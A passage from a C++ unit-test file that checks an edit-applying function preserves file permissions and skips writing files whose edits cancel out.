  const auto perms = fs::perms::owner_all | fs::perms::group_read;
  dir.write_file("run.py", "a = 1\n", perms);
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(workspace, {block("run.py", "a = 1\n", "a = 2\n")});
  ASSERT_TRUE(report.all_ok());
  EXPECT_EQ(read_file(dir.path() / "run.py"), "a = 2\n");
  EXPECT_EQ(fs::status(dir.path() / "run.py").permissions(), perms);
  EXPECT_EQ(entries(dir.path()), std::vector<std::string>{"run.py"});
}

TEST(ApplyEditsTest, UnchangedFilesAreNotWritten) {
  TempDir dir;
  dir.write_file("a.py", "a = 1\n");
  Workspace workspace(dir.path(), any_file());
  const auto report = apply_edits(
      workspace, {block("a.py", "a = 1\n", "a = 2\n"), block("a.py", "a = 2\n", "a = 1\n")});
  EXPECT_TRUE(report.all_ok());
  EXPECT_TRUE(report.changed_files.empty());
  EXPECT_EQ(read_file(dir.path() / "a.py"), "a = 1\n");
}

}  // namespace
}  // namespace edit
